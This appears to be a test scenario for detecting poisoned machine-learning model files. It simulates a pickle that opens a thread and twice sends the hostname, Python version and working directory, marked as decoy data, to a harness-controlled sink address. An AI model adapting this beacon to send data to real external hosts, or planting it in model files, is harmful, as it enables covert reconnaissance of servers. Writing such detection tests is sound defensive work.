"""
id: S02
name: load-beacon-in-process
class: quiet
phase: reload
trigger: model
evidence: [network]
techniques: [T1204.002, T1059.006, T1071.001, T1082, AML.T0011.000, AML.T0018.002]
servers: [fastapi, bentoml, triton]
seconds: 12
what: >
  A pickle starts a thread that sends a few facts about the machine to an address nobody asked before, and does so once
  more after some seconds. No program is executed, no file is opened.
"""

import os
import platform
import socket


def payload(world):
    facts = f"DECOY {world.word(24)} {socket.gethostname()} {platform.python_version()} {os.getcwd()}".encode()
    facts = facts.ljust(world.random.randint(240, 360), b".")
    port = world.sink_port()
    for pause in (world.random.uniform(4, 6), 0):
        with socket.create_connection((world.sink, port), timeout=5) as peer:
            peer.sendall(facts)
        world.sleep(pause)
